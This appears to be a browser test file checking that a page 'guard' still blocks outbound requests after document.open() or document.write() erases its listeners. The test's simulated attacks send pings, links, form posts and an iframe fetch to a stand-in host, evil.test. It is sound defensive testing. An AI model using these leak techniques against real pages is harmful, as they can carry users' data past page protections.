// The guard's lifetime: requests made before its engine is ready, and code that tries to remove,
// replace or outlive it. The servers' log is the judge.
import assert from 'node:assert/strict';
import { test } from 'node:test';

import { OPTIONS, PAGE_CSP, PAGE_HELPERS, assertNothingLeaked, useBrowser, waitForServed } from './helpers.mjs';

const session = useBrowser();

test('guard removal by document.open(), called or implied by document.write after load (it erases every listener on the window and the document): pings, links and forms into other windows, and new frames stay guarded (guard)', async () => {
  const page = await session.browser.open({ options: OPTIONS, csp: PAGE_CSP, afterInstall: PAGE_HELPERS });
  const outcomes = await page.evaluate(async () => {
    await guardReady;
    const evil = (name) => `https://evil.test/adv-reopen/${name}`;
    /** After `reopen()`, the markup's ping, link and form are used and a frame is inserted. */
    const attack = async (reopen, name) => {
      reopen(`<a id="ping" href="#here" ping="${evil(name + '-ping')}">ping</a>
        <a id="link" href="${evil(name + '-link')}" target="_blank">link</a>
        <form id="form" action="${evil(name + '-form')}" method="post" target="_blank"></form>`);
      document.getElementById('ping').click();
      document.getElementById('link').click();
      document.getElementById('form').requestSubmit();
      const frame = document.createElement('iframe');
      let fromLoad;
      frame.onload = () => { fromLoad = attempt(() => frames[frames.length - 1].fetch(evil(name + '-frame'))); };
      document.body.appendChild(frame);
      return (await fromLoad).error;
    };
    return {
      documentOpen: await attack((html) => { document.open(); document.write(html); document.close(); }, 'open'),
      writeAfterLoad: await attack((html) => { document.write(html); document.close(); }, 'write'),
      control: document.body.appendChild(Object.assign(document.createElement('a'), { href: 'https://docs.test/adv-reopen/allowed', target: '_blank' })).click(),
    };
  });
  await waitForServed('docs.test/adv-reopen/allowed'); // the last click of the page opened its popup: earlier ones would have too
  assertNothingLeaked('adv-reopen');
  assert.deepEqual(outcomes, { documentOpen: 'TypeError', writeAfterLoad: 'TypeError', control: undefined });
  await page.close();
});
